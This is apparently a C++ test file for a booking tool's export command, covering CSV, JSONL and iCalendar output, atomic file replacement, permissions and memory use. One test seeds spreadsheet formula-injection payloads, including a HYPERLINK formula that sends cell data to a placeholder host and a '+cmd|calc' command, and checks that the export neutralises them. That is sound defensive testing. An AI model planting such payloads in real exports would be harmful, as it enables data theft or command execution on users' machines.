// bookingctl export bookings (SPEC §5): CSV (RFC 4180), JSON Lines, iCalendar, --output.
#include <libical/ical.h>
#include <sys/stat.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <set>
#include <sstream>

#include "tests/support/bookingctl_test.hpp"
#include "tests/support/csv_reader.hpp"

namespace booking::test {
namespace {

const std::vector<std::string> kCsvHeader = {
    "id",       "status",        "start",          "end",   "duration_minutes", "service",
    "resource", "customer_name", "customer_email", "notes", "created_at",       "cancelled_at"};

const char* const kUtc = "'YYYY-MM-DD\"T\"HH24:MI:SS\"Z\"'";

std::string read_file(const std::string& path) {
    std::ifstream in(path, std::ios::binary);
    std::stringstream text;
    text << in.rdbuf();
    return text.str();
}

std::set<std::string> files_in(const std::string& dir) {
    std::set<std::string> names;
    for (const auto& entry : std::filesystem::directory_iterator(dir))
        names.insert(entry.path().filename().string());
    return names;
}

class Export : public BookingctlTest {
  protected:
    void SetUp() override {
        BookingctlTest::SetUp();
        seed_service("consultation", "Consultation", 60);
        seed_service("colour", "Colour", 90, 15);
        seed_resource("alice", "Alice");
        auto ann = seed_user("ann@example.com", "Smith, Ann");
        auto bob = seed_user("bob@example.com", "Bob \"Bobby\" O'Neil");
        seed_booking(ann, "consultation", "main", "2027-07-01 09:00", "confirmed", "plain");
        seed_booking(bob, "colour", "alice", "2027-07-01 09:00", "confirmed",
                     "needs a chair, \"the\" big one");
        seed_booking(ann, "colour", "main", "2027-07-02 14:30", "cancelled", "line one\nline two");
        seed_booking(bob, "consultation", "main", "2027-07-05 10:00", "confirmed", "");
        seed_booking(ann, "consultation", "alice", "2027-12-01 10:00", "confirmed", "winter, GMT");
        // Whole seconds, so that any correct formatting of created_at matches.
        pqxx::work tx(db());
        tx.exec0(
            "UPDATE bookings SET created_at = date_trunc('second', created_at), "
            "cancelled_at = date_trunc('second', cancelled_at)");
        tx.commit();
    }

    // The export's rows as the database has them, by start then id.
    std::vector<CsvRecord> expected_rows(const std::string& where = "true") {
        std::vector<CsvRecord> rows;
        pqxx::nontransaction tx(db());
        std::string sql =
            std::string("SELECT b.id::text, b.status, to_char(b.starts_at AT TIME ZONE 'UTC', ") +
            kUtc + "), to_char(b.ends_at AT TIME ZONE 'UTC', " + kUtc +
            "), (extract(epoch FROM b.ends_at - b.starts_at) / 60)::int::text, s.code, r.code, "
            "u.name, u.email, b.notes, to_char(b.created_at AT TIME ZONE 'UTC', " +
            kUtc + "), coalesce(to_char(b.cancelled_at AT TIME ZONE 'UTC', " + kUtc +
            "), '') FROM bookings b JOIN services s ON s.id = b.service_id JOIN resources r ON "
            "r.id = "
            "b.resource_id JOIN users u ON u.id = b.user_id WHERE " +
            where + " ORDER BY b.starts_at, b.id";
        for (const auto& row : tx.exec(sql)) {
            CsvRecord record;
            for (const auto& field : row) record.push_back(field.as<std::string>());
            rows.push_back(record);
        }
        return rows;
    }
};

TEST_F(Export, CsvIsRfc4180WithTheSpecColumnsAndTheDatabaseRows) {
    auto run = ctl({"export", "bookings"});
    ASSERT_TRUE(ExitedWith(run, kOk));
    auto records = parse_csv(run.out);  // strict: CRLF, quoting
    ASSERT_FALSE(records.empty()) << run.out;
    EXPECT_EQ(records[0], kCsvHeader);
    std::vector<CsvRecord> rows(records.begin() + 1, records.end());
    EXPECT_EQ(rows, expected_rows());
}

TEST_F(Export, CsvFiltersByLocalDatesAndStatus) {
    auto run = ctl(
        {"export", "bookings", "--format", "csv", "--from", "2027-07-01", "--to", "2027-07-02"});
    ASSERT_TRUE(ExitedWith(run, kOk));
    auto records = parse_csv(run.out);
    ASSERT_FALSE(records.empty());
    EXPECT_EQ(std::vector<CsvRecord>(records.begin() + 1, records.end()),
              expected_rows("(b.starts_at AT TIME ZONE 'Europe/London')::date BETWEEN '2027-07-01' "
                            "AND '2027-07-02'"));

    auto confirmed = ctl({"export", "bookings", "--status", "confirmed"});
    ASSERT_TRUE(ExitedWith(confirmed, kOk));
    records = parse_csv(confirmed.out);
    ASSERT_FALSE(records.empty());
    EXPECT_EQ(std::vector<CsvRecord>(records.begin() + 1, records.end()),
              expected_rows("b.status = 'confirmed'"));
}

TEST_F(Export, CsvOfNothingIsTheHeaderAlone) {
    auto run = ctl({"export", "bookings", "--from", "2030-01-01", "--to", "2030-01-31"});
    ASSERT_TRUE(ExitedWith(run, kOk));
    EXPECT_EQ(parse_csv(run.out), std::vector<CsvRecord>{kCsvHeader});
}

TEST_F(Export, JsonlIsOneBookingObjectALineWithTheCustomer) {
    auto run = ctl({"export", "bookings", "--format", "jsonl"});
    ASSERT_TRUE(ExitedWith(run, kOk));
    auto expected = expected_rows();
    auto lines = lines_of(run.out);
    ASSERT_EQ(lines.size(), expected.size()) << run.out;
    for (size_t i = 0; i < lines.size(); ++i) {
        auto booking = nlohmann::json::parse(lines[i]);
        ASSERT_TRUE(booking.is_object()) << lines[i];
        for (const char* field : {"id", "user_id", "service", "resource", "start", "end",
                                  "duration_minutes", "status", "notes", "created_at", "updated_at",
                                  "cancelled_at", "customer_name", "customer_email"}) {
            EXPECT_TRUE(booking.contains(field)) << field << " missing from " << lines[i];
        }
        const auto& row = expected[i];
        EXPECT_EQ(booking["id"].get<long long>(), std::stoll(row[0]));
        EXPECT_EQ(booking["status"], row[1]);
        EXPECT_EQ(booking["start"], row[2]);
        EXPECT_EQ(booking["end"], row[3]);
        EXPECT_EQ(booking["duration_minutes"], std::stoi(row[4]));
        EXPECT_EQ(booking["service"], row[5]);
        EXPECT_EQ(booking["resource"], row[6]);
        EXPECT_EQ(booking["customer_name"], row[7]);
        EXPECT_EQ(booking["customer_email"], row[8]);
        EXPECT_EQ(booking["notes"], row[9]);
        if (row[11].empty())
            EXPECT_TRUE(booking["cancelled_at"].is_null()) << lines[i];
        else
            EXPECT_EQ(booking["cancelled_at"], row[11]);
    }
}

TEST_F(Export, IcsIsOneCalendarWithAnEventPerBooking) {
    auto run = ctl({"export", "bookings", "--format", "ics"});
    ASSERT_TRUE(ExitedWith(run, kOk));
    const std::string& ics = run.out;
    EXPECT_EQ(ics.rfind("BEGIN:VCALENDAR\r\n", 0), 0u) << ics;
    EXPECT_TRUE(ics.ends_with("END:VCALENDAR\r\n")) << ics;
    for (size_t pos = 0; (pos = ics.find('\n', pos)) != std::string::npos; ++pos) {
        ASSERT_TRUE(pos > 0 && ics[pos - 1] == '\r') << "a line not ended by CRLF at byte " << pos;
    }
    for (const auto& line : lines_of(ics)) EXPECT_LE(line.size(), 75u) << "unfolded line: " << line;

    icalcomponent* calendar = icalcomponent_new_from_string(ics.c_str());
    ASSERT_NE(calendar, nullptr) << "libical cannot parse:\n" << ics;
    EXPECT_EQ(icalcomponent_isa(calendar), ICAL_VCALENDAR_COMPONENT);
    std::set<std::string> uids, starts;
    for (icalcomponent* event = icalcomponent_get_first_component(calendar, ICAL_VEVENT_COMPONENT);
         event != nullptr;
         event = icalcomponent_get_next_component(calendar, ICAL_VEVENT_COMPONENT)) {
        if (const char* uid = icalcomponent_get_uid(event)) uids.insert(uid);
        icalproperty* dtstart = icalcomponent_get_first_property(event, ICAL_DTSTART_PROPERTY);
        if (dtstart != nullptr) {
            starts.insert(icaltime_as_ical_string(icaltime_convert_to_zone(
                icalproperty_get_dtstart(dtstart), icaltimezone_get_utc_timezone())));
        }
    }
    icalcomponent_free(calendar);

    std::set<std::string> expected_uids, expected_starts;
    pqxx::nontransaction tx(db());
    for (const auto& row : tx.exec("SELECT id, to_char(starts_at AT TIME ZONE 'UTC', "
                                   "'YYYYMMDD\"T\"HH24MISS\"Z\"') FROM bookings")) {
        expected_starts.insert(row[1].as<std::string>());
        std::string prefix = "booking-" + row[0].as<std::string>() + "@";
        bool found = false;
        for (const auto& uid : uids) found = found || uid.rfind(prefix, 0) == 0;
        EXPECT_TRUE(found) << "no VEVENT with UID " << prefix << "...";
    }
    EXPECT_EQ(uids.size(), 5u);
    EXPECT_EQ(starts, expected_starts);
}

TEST_F(Export, OutputWritesTheWholeFileAndLeavesNoTemporaryFile) {
    auto dir = make_temp_dir("booking-export");
    auto path = dir + "/bookings.csv";
    auto to_stdout = ctl({"export", "bookings"});
    ASSERT_TRUE(ExitedWith(to_stdout, kOk));
    auto run = ctl({"export", "bookings", "--output", path});
    ASSERT_TRUE(ExitedWith(run, kOk));
    EXPECT_EQ(read_file(path), to_stdout.out);
    EXPECT_EQ(files_in(dir), std::set<std::string>{"bookings.csv"});
    EXPECT_TRUE(run.out.empty()) << "the data went to the file, not stdout:\n" << run.out;
    remove_tree(dir);
}

TEST_F(Export, OutputReplacesAnExistingFileByRenaming) {
    auto dir = make_temp_dir("booking-export");
    auto path = dir + "/bookings.jsonl";
    std::ofstream(path) << "yesterday's export\n";
    struct stat old_file {};
    ASSERT_EQ(::stat(path.c_str(), &old_file), 0);

    auto run = ctl({"export", "bookings", "--format", "jsonl", "--output", path});
    ASSERT_TRUE(ExitedWith(run, kOk));
    struct stat new_file {};
    ASSERT_EQ(::stat(path.c_str(), &new_file), 0);
    // A reader holding the old file keeps reading the old file: it was replaced, not rewritten in
    // place.
    EXPECT_NE(new_file.st_ino, old_file.st_ino);
    auto lines = lines_of(read_file(path));
    EXPECT_EQ(lines.size(), 5u);
    for (const auto& line : lines) EXPECT_TRUE(nlohmann::json::parse(line).is_object()) << line;
    EXPECT_EQ(files_in(dir), std::set<std::string>{"bookings.jsonl"});
    remove_tree(dir);
}

TEST_F(Export, OutputIntoAMissingDirectoryFailsWithExit1) {
    auto dir = make_temp_dir("booking-export");
    EXPECT_TRUE(FailedWith(ctl({"export", "bookings", "--output", dir + "/missing/bookings.csv"}),
                           kRuntimeFailure));
    EXPECT_TRUE(files_in(dir).empty());
    remove_tree(dir);
}

TEST_F(Export, QuietStillWritesTheData) {
    auto normal = ctl({"export", "bookings"});
    auto quiet = ctl({"-q", "export", "bookings"});
    ASSERT_TRUE(ExitedWith(normal, kOk));
    ASSERT_TRUE(ExitedWith(quiet, kOk));
    EXPECT_EQ(quiet.out, normal.out);
    EXPECT_EQ(quiet.err, "");
}

// "streams (memory does not grow with the number of bookings)": the peak memory
// of an export of 50,000 more bookings stays within a few MiB of a small one.
TEST_F(Export, MemoryDoesNotGrowWithTheNumberOfBookings) {
    auto dir = make_temp_dir("booking-export");
    ProcessOptions options;
    // Without ASan's quarantine of freed memory, which would grow by itself.
    const char* asan = std::getenv("ASAN_OPTIONS");
    options.env["ASAN_OPTIONS"] = std::string(asan ? asan : "") + ":quarantine_size_mb=0";
    auto export_peak = [&] {
        auto run =
            ctl_raw({"--config", config_path(), "export", "bookings", "--output", dir + "/all.csv"},
                    options);
        EXPECT_TRUE(ExitedWith(run, kOk));
        return run.max_rss_kib;
    };
    long small = export_peak();
    {
        pqxx::work tx(db());
        tx.exec0(
            "INSERT INTO bookings (user_id, service_id, resource_id, starts_at, ends_at, "
            "blocked_until, notes) "
            "SELECT u.id, s.id, r.id, t, t + interval '1 hour', t + interval '1 hour', "
            "'a note of a typical length, to give each row some weight' "
            "FROM generate_series(timestamptz '2031-01-01', timestamptz '2031-01-01' + interval "
            "'49999 hours', "
            "interval '1 hour') t, (SELECT min(id) AS id FROM users) u, services s, resources r "
            "WHERE s.code = 'consultation' AND r.code = 'main'");
        tx.commit();
    }
    long large = export_peak();
    EXPECT_EQ(parse_csv(read_file(dir + "/all.csv")).size(),
              50006u);  // the header and every booking
    EXPECT_LT(large - small, 16 * 1024)
        << "peak memory: " << small << " KiB for 5 bookings, " << large << " KiB for 50,005";
    remove_tree(dir);
}

// The export reads the bookings 5,000 at a time, one batch ahead of the one it
// writes: with a whole number of batches, and one row past it, every booking
// is written once and in order.
TEST_F(Export, WritesEveryRowOnceInOrderAcrossBatches) {
    int added = 0;
    auto add = [&](int count) {
        pqxx::work tx(db());
        tx.exec_params0(
            "INSERT INTO bookings (user_id, service_id, resource_id, starts_at, ends_at, "
            "blocked_until, notes) "
            "SELECT u.id, s.id, r.id, t, t + interval '1 hour', t + interval '1 hour', 'n' || g "
            "FROM generate_series($2 + 1, $2 + $1) g, "
            "LATERAL (SELECT timestamptz '2030-01-01' + (g / 2) * interval '1 hour' AS t) x, "
            "(SELECT min(id) AS id FROM users) u, services s, resources r "
            "WHERE s.code = 'consultation' AND r.code = 'main' "
            "AND g % 2 = 0 OR g % 2 = 1 AND s.code = 'colour' AND r.code = 'alice'",
            count, added);
        tx.commit();
        added += count;
    };
    auto exported = [&] {
        auto run = ctl({"export", "bookings"});
        EXPECT_TRUE(ExitedWith(run, kOk));
        auto records = parse_csv(run.out);
        return std::vector<CsvRecord>(records.begin() + 1, records.end());
    };
    add(10000 - 5);  // with the fixture's five: two whole batches
    auto two = exported();
    EXPECT_EQ(two.size(), 10000u);
    EXPECT_EQ(two, expected_rows());
    add(1);
    auto more = exported();
    EXPECT_EQ(more.size(), 10001u);
    EXPECT_EQ(more, expected_rows());
}

// SPEC §5: a customer's name or notes that a spreadsheet would run as a
// formula reach the export's CSV (and every --format csv) after a '.
TEST_F(Export, CsvWritesFormulasAsTextWithAQuoteMarkBeforeThem) {
    const std::string name = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")";
    auto eve = seed_user("eve@example.com", name);
    seed_booking(eve, "consultation", "main", "2027-08-02 09:00", "confirmed", "+cmd|calc");
    seed_booking(eve, "consultation", "main", "2027-08-03 09:00", "confirmed", "@SUM(1)");
    seed_booking(eve, "consultation", "main", "2027-08-04 09:00", "confirmed", "\tx\r\n-y");
    auto run = ctl({"export", "bookings", "--from", "2027-08-01", "--to", "2027-08-31"});
    ASSERT_TRUE(ExitedWith(run, kOk));
    auto records = parse_csv(run.out);
    ASSERT_EQ(records.size(), 4u) << run.out;
    EXPECT_EQ(records[1][7], "'" + name);
    EXPECT_EQ(records[1][9], "'+cmd|calc");
    EXPECT_EQ(records[2][9], "'@SUM(1)");
    EXPECT_EQ(records[3][9], "'\tx\r\n-y");
    EXPECT_EQ(records[1][8], "eve@example.com");  // nothing else changes

    auto users = ctl({"users", "list", "--format", "csv"});
    ASSERT_TRUE(ExitedWith(users, kOk));
    EXPECT_NE(users.out.find(",\"'=HYPERLINK("), std::string::npos) << users.out;
    EXPECT_EQ(users.out.find(",\"=HYPERLINK("), std::string::npos) << users.out;
}

// SPEC §5: files of personal data are created without any permission for
// others, whatever the umask; the temporary file is never more open.
TEST_F(Export, OutputFilesAreNotReadableByOthersWhateverTheUmask) {
    auto dir = make_temp_dir("booking-export");
    const mode_t old_umask = ::umask(0);
    auto run = ctl({"export", "bookings", "--output", dir + "/open.csv"});
    ::umask(077);
    auto strict = ctl({"export", "bookings", "--format", "ics", "--output", dir + "/strict.ics"});
    ::umask(old_umask);
    ASSERT_TRUE(ExitedWith(run, kOk));
    ASSERT_TRUE(ExitedWith(strict, kOk));
    struct stat file {};
    ASSERT_EQ(::stat((dir + "/open.csv").c_str(), &file), 0);
    EXPECT_EQ(file.st_mode & 0777, 0640u) << std::oct << (file.st_mode & 0777);
    ASSERT_EQ(::stat((dir + "/strict.ics").c_str(), &file), 0);
    EXPECT_EQ(file.st_mode & 0777, 0600u) << std::oct << (file.st_mode & 0777);
    remove_tree(dir);
}

TEST_F(Export, RefusesBadArguments) {
    EXPECT_TRUE(FailedWith(ctl({"export", "bookings", "--format", "xml"}), kUsage));
    EXPECT_TRUE(FailedWith(ctl({"export", "bookings", "--from", "2027-07-32"}), kUsage));
    EXPECT_TRUE(FailedWith(ctl({"export", "bookings", "--status", "pending"}), kUsage));
    EXPECT_TRUE(FailedWith(ctl({"export", "users"}), kUsage));
}

}  // namespace
}  // namespace booking::test
